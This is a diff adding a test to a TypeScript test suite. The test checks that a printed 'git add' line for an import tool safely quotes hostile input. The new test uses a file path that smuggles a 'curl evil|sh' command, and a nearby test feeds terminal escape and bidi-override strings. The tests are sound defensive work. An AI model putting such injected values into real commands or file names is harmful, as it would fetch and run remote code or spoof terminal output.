@@ -76,6 +76,11 @@ describe('import', () => {
     valid('import', importJson(nothing));
   });
 
+  it('X-2 a folder of the host is one word of the line that is printed to be run', () => {
+    const files = [{ path: 'a;curl evil|sh;/compose.yaml', state: 'written' as const }];
+    expect(importText({ ...RESULT, files }, PLAIN)).toContain("git add -- 'a;curl evil|sh;' && ");
+  });
+
   it('O-5 names and reasons from a host do nothing on a terminal', () => {
     const hostile = '\x1b]0;owned\x07\n::set-output::\u202e';
     const rows = [
